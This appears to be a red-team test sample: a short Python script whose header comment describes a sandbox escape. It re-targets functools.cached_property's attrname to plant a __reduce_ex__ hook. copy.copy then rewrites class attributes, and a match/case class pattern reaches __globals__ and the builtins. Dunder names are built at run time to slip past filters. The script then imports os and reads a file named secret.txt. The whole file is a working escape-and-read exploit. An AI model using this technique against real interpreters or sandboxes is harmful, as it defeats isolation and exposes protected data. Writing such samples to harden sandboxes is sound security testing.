# family: red team, round 10 (cached_property_attrname_retarget)
# functools.cached_property keeps the name it writes under in a public attribute, attrname. Read through the
# class (Holder.slot is the descriptor itself), it is re-pointed at a run-time dunder: the next read of
# obj.slot stores the method's result under "__reduce_ex__" in the instance dict. copy.copy() then calls it and
# setattr()s run-time names on a class with written __match_args__, and a class pattern reads __globals__.
import abc
import copy
import functools


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


PENDING = []


class Holder:
    @functools.cached_property
    def slot(self):
        return PENDING[-1]


def install(target, names):
    def reducer(protocol):
        return (lambda: target, (), (None, names))

    PENDING.append(reducer)
    Holder.slot.attrname = _d("reduce_ex")
    obj = Holder()
    obj.slot
    copy.copy(obj)


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): lambda sub: True, _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r10/work/secret.txt").read().strip()


print(run())
